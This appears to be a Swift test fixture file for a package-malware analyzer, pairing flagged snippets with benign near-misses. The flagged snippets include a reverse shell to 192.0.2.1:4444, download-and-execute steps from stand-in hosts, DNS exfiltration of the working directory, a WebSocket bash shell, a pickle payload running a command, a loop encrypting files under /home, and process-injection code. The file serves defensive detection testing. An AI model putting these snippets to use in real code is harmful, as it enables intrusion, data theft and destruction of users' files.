@testable import Analyzers

private let encoded = "Y29uc29sZS5sb2coJ2FjbWUgYm94IHNheXMgaGVsbG8nKQ=="

let executionFixtures = RuleFixtures(
    flagged: [
        .decodedCodeRuns: {
            try npmCode("const text = Buffer.from('\(encoded)', 'base64').toString()\nnew Function(text)()\n")
        },
        .decodedCommandRuns: {
            try wheelCode("import base64, os\nos.system(base64.b64decode('bHMgLWxhIC90bXAvYWNtZS1ib3g=').decode())\n")
        },
        .decodedValueRuns: {
            try wheelCode("import zlib\ndef run(data):\n    exec(zlib.decompress(data))\n")
        },
        .decodedObjectLoads: {
            try wheelCode(
                """
                import base64, pickle
                TABLE = '''gASVEAAAAAAAAACMDGFjbWUgYm94IHNheZQugASVEAAAAAAAAACMDGFjbWUgYm94IHNheZQu'''
                table = pickle.loads(base64.b64decode(TABLE))

                """)
        },
        .objectRunsProgram: {
            try wheelCode("import pickle\nx = pickle.loads(b\"cposix\\nsystem\\n(S'id acme'\\ntR.\")\n")
        },
        .mediaCodeRuns: {
            try wheelCode("code = open('logo.png', 'rb').read()[512:]\nexec(code)\n")
        },
        .fetchedCodeRuns: {
            try wheelCode("import urllib.request\nexec(urllib.request.urlopen('https://x.example/a.py').read())\n")
        },
        .fetchedCodeRunsOpen: {
            try npmCode(
                "exports.load = url => fetch(url).then(r => r.text()).then(text => { (0, eval)(text) })\n")
        },
        .fetchedCommandRuns: {
            try wheelCode(
                "import os, requests\nos.system(requests.get('https://x.example/next').text)\n")
        },
        .fetchedFileRuns: {
            try npmCode(
                """
                const fs = require('fs'), https = require('https'), { execFile } = require('child_process')
                const target = __dirname + '/box'
                https.get('https://x.example/box', answer => {
                  answer.pipe(fs.createWriteStream(target)).on('close', () => execFile(target))
                })

                """)
        },
        .fetchedFileRunsInPython: {
            try wheelCode(
                """
                import os, urllib.request
                path = os.path.join(os.getcwd(), 'box')
                urllib.request.urlretrieve('https://x.example/box', path)
                os.system(path)

                """)
        },
        .fetchedFileRunsHidden: {
            try wheelCode(
                """
                import subprocess, urllib.request
                urllib.request.urlretrieve('http://192.0.2.1/box', '/tmp/box.bin')
                subprocess.Popen(['/tmp/box.bin'])

                """)
        },
        .reverseShell: {
            try wheelCode(
                """
                import os, socket, subprocess
                s = socket.socket()
                s.connect(('192.0.2.1', 4444))
                os.dup2(s.fileno(), 0)
                subprocess.call(['/bin/sh', '-i'])

                """)
        },
        .nameCarriesData: {
            try npmCode(
                """
                const dns = require('dns')
                const part = Buffer.from(process.cwd()).toString('hex')
                dns.lookup(part + '.drop.x.example', () => {})

                """)
        },
        .nameComputed: {
            try npmCode(
                "const dns = require('dns')\nexports.ask = (a) => dns.lookup(a + '.drop.x.example', () => {})\n")
        },
        .listeningShell: {
            try npmCode(
                """
                const { WebSocketServer } = require('ws'), pty = require('node-pty')
                exports.serve = port => new WebSocketServer({ port }).on('connection', w => {
                  const p = pty.spawn('bash', [])
                  p.onData(d => w.send(d))
                })

                """)
        },
        .certificatesUnchecked: {
            try wheelCode("import requests\nrequests.get('https://x.example', verify=False)\n")
        },
        .encryptsTree: {
            try wheelCode(
                """
                import os
                from cryptography.fernet import Fernet
                key = Fernet(Fernet.generate_key())
                for root, folders, files in os.walk('/home'):
                    for name in files:
                        path = os.path.join(root, name)
                        data = key.encrypt(open(path, 'rb').read())
                        open(path + '.locked', 'wb').write(data)
                        os.remove(path)

                """)
        },
        .injectsCode: {
            try wheelCode(
                """
                import ctypes
                kernel = ctypes.windll.kernel32
                def put(process, address, data):
                    kernel.WriteProcessMemory(process, address, data, len(data), None)
                    kernel.CreateRemoteThread(process, None, 0, address, None, 0, None)

                """)
        },
    ],
    clean: [
        "OBF-DECODE-EXEC": {
            try npmCode("const icon = Buffer.from('\(encoded)', 'base64')\nexports.f = new Function('a', 'return a')\n")
        },
        "OBF-STEGO": { try wheelCode("logo = open('logo.png', 'rb').read()\nexec('x = 1')\n") },
        "DROP-FETCH-RUN": {
            try wheelCode(
                """
                import subprocess, urllib.request
                urllib.request.urlretrieve('https://x.example/data.csv', 'data.csv')
                subprocess.run(['ls', 'other.txt'])

                """)
        },
        "NET-REVSH": {
            try wheelCode(
                "import socket, subprocess\ns = socket.socket()\ns.connect(('x.example', 80))\n"
                    + "subprocess.run(['ls'])\n")
        },
        "NET-DNS": { try npmCode("require('dns').lookup('x.example', () => {})\n") },
        "NET-TLSOFF": { try wheelCode("import requests\nrequests.get('https://x.example', verify=True)\n") },
        "IMP-RANSOM": {
            try wheelCode("import os\nfor root, folders, files in os.walk('.'):\n    print(files)\n")
        },
        "IMP-INJECT": { try wheelCode("import ctypes\nkernel = ctypes.windll.kernel32\nkernel.GetTickCount()\n") },
    ])
